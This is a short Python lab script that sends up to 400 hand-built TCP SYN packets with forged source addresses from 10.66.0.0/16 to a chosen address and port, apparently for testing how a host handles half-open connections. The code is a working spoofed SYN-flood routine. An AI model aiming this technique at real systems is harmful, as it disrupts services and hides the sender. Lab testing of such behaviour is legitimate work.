# SPDX-License-Identifier: GPL-2.0-only
# N SYNs, each from another address of 10.66.0.0/16, where nobody answers. For the lab's
# own network only: the addresses are not routed anywhere else.
# Usage: flood.py ADDRESS PORT N
import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


dst, dport, n = sys.argv[1], int(sys.argv[2]), min(int(sys.argv[3]), 400)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i in range(n):
    src = '10.66.%d.%d' % (i // 200 + 1, i % 200 + 1)
    tcp = struct.pack('!HHIIBBHHH', 20000 + i, dport, 7000 + i, 0, 5 << 4, 2, 64240, 0, 0)
    ends = socket.inet_aton(src) + socket.inet_aton(dst)
    tcp = tcp[:16] + struct.pack('!H', checksum(ends + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 40, i, 0, 64, 6, 0) + ends
    s.sendto(ip + tcp, (dst, 0))
print('sent', n, 'SYNs')
